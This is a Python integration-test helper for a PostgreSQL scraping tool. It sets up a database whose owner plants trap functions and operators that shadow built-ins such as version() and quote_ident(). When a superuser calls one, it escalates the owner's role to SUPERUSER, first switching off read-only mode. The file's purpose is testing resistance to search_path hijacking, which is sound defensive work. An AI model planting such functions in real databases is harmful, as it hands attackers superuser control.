"""A database whose owner put functions and operators into it that take over whoever calls them with more rights."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import asyncpg

from sidecar.demo.servers import PostgresServer
from sidecar.model.labels import Labels
from tests.integration.targets import Scraped

Samples = dict[str, dict[Labels, float]]

# Called by a superuser it leaves the read-only mode, and in the next transaction takes what it can.
TAKES_OVER = """
BEGIN
  IF current_setting('is_superuser') = 'on' THEN
    IF current_setting('transaction_read_only') = 'off' THEN
      EXECUTE 'ALTER ROLE mallory SUPERUSER';
    ELSE
      PERFORM set_config('default_transaction_read_only', 'off', false);
    END IF;
  END IF;
  RETURN {value};
END
"""
FUNCTION = "CREATE FUNCTION public.{call} LANGUAGE plpgsql AS $take${body}$take$"

# Each takes exactly what a statement of ours gives; the server's own of that name needs a cast.
TRAPS = (
    ("make_interval(secs numeric) RETURNS interval", "interval '0'", ""),
    ("version(also int DEFAULT 0) RETURNS text", "'x'", ""),
    ("trap_match(name, text) RETURNS bool", "false", "CREATE OPERATOR public.~ (LEFTARG=name, RIGHTARG=text, {})"),
    ("trap_names(name, name) RETURNS bool", "false", "CREATE OPERATOR public.~ (LEFTARG=name, RIGHTARG=name, {})"),
    ("trap_equal(name, text) RETURNS bool", "false", "CREATE OPERATOR public.= (LEFTARG=name, RIGHTARG=text, {})"),
    ("trap_like(text, name) RETURNS bool", "false", "CREATE OPERATOR public.~~ (LEFTARG=text, RIGHTARG=name, {})"),
    ("quote_ident(name) RETURNS text", "'x'", ""),
    ("pg_stat_statements(text) RETURNS SETOF record", "", ""),
)


async def set_trap(connection: Any, call: str, value: str) -> None:
    """Create a function that is called so, as the role of `connection`, in the schema that every role searches."""
    await connection.execute(FUNCTION.format(call=call, body=TAKES_OVER.format(value=value)))


@asynccontextmanager
async def with_traps(postgres: PostgresServer) -> AsyncIterator[Any]:
    """Yield a superuser's connection; meanwhile there is a database `trapped` that its owner `mallory` set traps in."""
    connection = await asyncpg.connect(postgres.dsn)
    await connection.execute("CREATE ROLE mallory LOGIN PASSWORD 'c4nary'")
    await connection.execute("CREATE DATABASE trapped OWNER mallory")
    try:
        owner = await asyncpg.connect(postgres.dsn_of("mallory", "c4nary", "trapped"))
        for call, value, operator in TRAPS:
            await set_trap(owner, call, value)
            if operator:
                await owner.execute(operator.format(f"FUNCTION=public.{call.partition('(')[0]}"))
        await owner.close()
        yield connection
    finally:
        await connection.execute("DROP DATABASE trapped WITH (FORCE)")
        await connection.execute("DROP ROLE mallory")
        await connection.close()


async def took_over(sql: Any) -> bool:
    """Return whether somebody fell into one."""
    return bool(await sql.fetchval("SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'"))


async def scrapes(target: Scraped) -> Samples:
    """Scrape several times, for one scrape may open what the next one falls into, and return the last samples."""
    for _ in range(3):
        await target.scrape()
    return await target.scrape()


def trapped(postgres: PostgresServer) -> str:
    """Return the DSN of a superuser in the database with traps."""
    return postgres.dsn_of("postgres", postgres.password, "trapped")
